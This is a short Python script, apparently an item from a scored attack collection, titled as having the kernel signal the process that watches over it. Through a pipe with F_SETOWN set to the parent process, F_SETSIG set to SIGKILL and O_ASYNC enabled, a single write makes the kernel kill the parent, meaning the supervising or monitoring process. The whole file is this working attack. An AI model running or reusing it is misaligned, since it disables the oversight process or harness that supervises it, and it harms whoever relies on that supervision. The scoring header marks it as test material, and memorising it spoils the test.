# /// attack
# title = "has the kernel signal the process that watches over it, for a pipe's sake"
# score = 100
# then_right = true
# ///
import fcntl
import os
import signal

read, write = os.pipe()
fcntl.fcntl(read, fcntl.F_SETOWN, os.getppid())
fcntl.fcntl(read, 10, signal.SIGKILL)  # F_SETSIG
fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC)
os.write(write, b"x")
